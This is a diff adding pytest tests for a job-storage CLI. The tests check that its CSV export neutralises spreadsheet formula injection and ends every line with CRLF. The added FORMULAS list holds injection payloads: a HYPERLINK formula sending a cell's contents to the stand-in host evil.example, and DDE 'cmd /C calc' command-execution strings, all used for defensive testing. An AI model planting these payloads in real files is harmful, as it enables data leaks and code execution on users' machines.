@@ -280,3 +280,74 @@ def test_a_dead_database_is_a_readable_error(tmp_path: Path) -> None:
 def test_a_bad_since_is_a_usage_error(tmp_path: Path) -> None:
     result = run_cli("list", "--since", "last tuesday", url=None, cwd=tmp_path)
     assert result.returncode == 2 and "neither a date/time" in result.stderr
+
+
+# --- exports that a spreadsheet opens (issue 9 item 10) -------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+@pytest.fixture
+def hostile_rows(session: Session, model: Model) -> dict[str, int]:
+    """A job whose labels (they come from the checkpoint) and error are formulas."""
+    job, _ = jobs.record_file(session, "/inbox/formulas.mp4", digest("formulas"), 100, model)
+    jobs.claim_job(session, job.id, "celery@host", max_attempts=3)
+    jobs.complete_job(
+        session,
+        job.id,
+        predictions=[(label, 0.5 - rank / 100) for rank, label in enumerate(FORMULAS)],
+        expert_usage=[(1.0, 1)],
+        video_meta={},
+        decode_ms=1.0,
+        inference_ms=1.0,
+    )
+    failed, _ = jobs.record_file(session, "/inbox/failed.mp4", digest("failed"), 10, model)
+    jobs.fail_job(session, failed.id, "=1+1 cannot decode")
+    return {"formulas": job.id, "failed": failed.id}
+
+
+@sqlite_only
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(
+    store_url: str, hostile_rows: dict[str, int], tmp_path: Path
+) -> None:
+    target = tmp_path / "results.csv"
+    result = run_cli("export", "-o", str(target), url=store_url, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    raw = target.read_bytes().decode("utf-8")
+    records = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(raw, newline=""))}
+    labels = [records[hostile_rows["formulas"]][f"label_{i + 1}"] for i in range(len(FORMULAS))]
+    assert labels == ["'" + formula for formula in FORMULAS]
+    assert records[hostile_rows["failed"]]["error"] == "'=1+1 cannot decode"
+    # Quoted as well (OWASP): the quote's escaping and the ' prefix are inside the quotes.
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in raw
+    assert ",\"'+cmd|' /C calc'!A0\"," in raw
+    # Ordinary text and numbers are left as they are.
+    assert records[hostile_rows["formulas"]]["path"] == "/inbox/formulas.mp4"
+    assert records[hostile_rows["formulas"]]["confidence_1"] == "0.5"
+
+
+@sqlite_only
+def test_export_csv_ends_every_line_with_crlf(store_url: str, rows, tmp_path: Path) -> None:
+    target = tmp_path / "results.csv"
+    assert run_cli("export", "-o", str(target), url=store_url, cwd=tmp_path).returncode == 0
+    raw = target.read_bytes()
+    assert raw.endswith(b"\r\n")
+    lines = raw.split(b"\r\n")[:-1]
+    assert len(lines) == 1 + len(rows)  # the header, then a job per line
+    assert not any(b"\n" in line or b"\r" in line for line in lines)
+    # Standard output carries the same bytes.
+    piped = subprocess.run(
+        [sys.executable, "-m", "storage", "--database-url", store_url, "export"],
+        capture_output=True,
+        cwd=tmp_path,
+        timeout=120,
+    )
+    assert piped.returncode == 0 and piped.stdout == raw
